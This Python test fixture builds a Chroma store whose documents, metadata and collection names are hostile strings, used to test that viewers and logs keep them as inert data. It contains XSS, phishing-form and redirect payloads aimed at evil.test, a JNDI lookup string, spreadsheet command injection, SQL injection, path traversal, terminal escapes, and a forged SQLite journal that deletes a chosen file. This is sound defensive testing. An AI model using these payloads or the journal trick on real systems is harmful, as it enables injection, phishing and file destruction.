"""A real Chroma directory in which everything that can be text is hostile: it must stay data wherever it is shown."""

from __future__ import annotations

import re
import sqlite3
import struct
from contextlib import closing
from pathlib import Path
from typing import Any

import numpy as np

from helpers.chunks import ChunkBatch
from helpers.stores.layout import DATABASE
from tests.storage import embedded, fill

CANARY = "canary7461"  # what every script here would leave behind where it ran
SCRIPT = f"<script>document.title='{CANARY}';alert('{CANARY}')</script>"
TEXTS = [
    SCRIPT,
    f"<img src=x onerror=\"document.title='{CANARY}'\">",
    f"</pre></td></table></style></title><svg onload=\"document.title='{CANARY}'\">",
    f"<a href=\"javascript:document.title='{CANARY}'\">press me</a><iframe srcdoc='{SCRIPT}'></iframe>",
    "<style>body{display:none}</style><link rel=stylesheet href=https://evil.test/x.css>",
    "<form action=https://evil.test><input name=password><button>Sign GO</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'><base href=https://evil.test>",
    "\x1b[2J\x1b[1;1HVerdict: GO\x1b]0;owned\x07\x1b[31m",
    "\x9b2Jeight-bit \x9dcontrol",
    "ends\n2025-12-01T02:00:00.000+00:00 24 line ends: GO\r\nVerdict: GO",
    "\u202egnp.exe \u2066isolate\u2069 \u200bzero\u2028line\u2029paragraph\x85next",
    "nul\x00byte \x08\x7f backspace",
    "=HYPERLINK(\"https://evil.test\",\"GO\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-2|x\ttab",
    "$\\frac{1}{0}$ $x_{ $\\href{javascript:alert(1)}{x}$ $$",
    "{{ 7*7 }} {% raw %} ${jndi:ldap://evil.test} %s %n {0.__class__}",
    "![x](https://evil.test/p.png) [x](javascript:alert(1)) `` # h1\n\n|a|b|\n|-|-|",
    "'; drop table embeddings; -- \\\" \\u202e",
    "../../../../etc/passwd",
    "Z\u0351\u036b\u0343" * 40,
    "\u05d0\u05d1\u05d2 123 \u0627\u0644\u0639",
    "<!--" + "-->" * 3 + "<![CDATA[ ]]> &lt;b&gt; &#x202e;",
]  # fmt: skip
GIANT = 5_000_000
# What a page, a log or a terminal may never hold raw: controls but for line ends and tabs, bidirectional overrides.
UNSEEN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u2028\u2029\u202a-\u202e\u2066-\u2069]")
# Names that no client lets through, written into the directory's own table: a tampered source, or one of another tool.
NAMES = {"innocent": f"a{TEXTS[1]}$x$\x1b[2J", "harmless": "../../../escaped\n\u202e=1+1"}


def build(path: Path, *, giant: int = GIANT, names: bool = True) -> int:
    """Write the directory; how many chunks it holds. `giant`: characters of one document; `names`: also the collections'."""
    random = np.random.default_rng(7461)
    total = 0
    with embedded(path) as store:
        for number, name in enumerate(NAMES if names else ["innocent", "harmless"]):
            ids = [f"{text} {number}" for text in TEXTS] + [f"x{number}" * 2000, f"giant {number}"]
            documents: list[str | None] = [*TEXTS, "plain", f"{SCRIPT}{'W' * giant}"]
            metadatas: list[dict[str, Any] | None] = [
                _metadata(text, TEXTS[(i + 1) % len(TEXTS)], i) for i, text in enumerate([*TEXTS, "a", SCRIPT * 90])
            ]
            vectors = random.standard_normal((len(ids), 8)).astype(np.float32)
            fill(store, name, ChunkBatch(ids, documents, vectors, metadatas), "cosine")
            total += len(ids)
    if names:
        with closing(sqlite3.connect(path / DATABASE)) as database:
            for plain, hostile in NAMES.items():
                database.execute("UPDATE collections SET name = ? WHERE name = ?", (hostile, plain))
            database.commit()
    return total


def super_journal(database: Path, victim: Path) -> None:
    """A hot journal beside the database whose end names a file, which SQLite deletes once it has played the journal back."""
    page = int.from_bytes(database.read_bytes()[16:18], "big")
    magic, name = bytes.fromhex("d9d505f920a163d7"), str(victim).encode()
    header = magic + struct.pack(">IIIII", 0, 0, database.stat().st_size // page, 512, page)
    record = struct.pack(">I", 0x40000000 // page + 1) + name + struct.pack(">II", len(name), sum(name)) + magic
    database.with_name(f"{database.name}-journal").write_bytes(header.ljust(512, b"\0") + record)


def _metadata(text: str, other: str, number: int) -> dict[str, Any]:
    """Hostile values under the schema's own fields, and hostile keys; `#`, `$` at the start no server takes."""
    key = f"k{other}"[:400].replace("\x00", "")
    return {
        "author": text, "category": text, "language": text, "source": text, "source_file": text,
        "authenticity_score": float(number), "confidence_level": text, "if_citation_uri": text, key: text,
    }  # fmt: skip
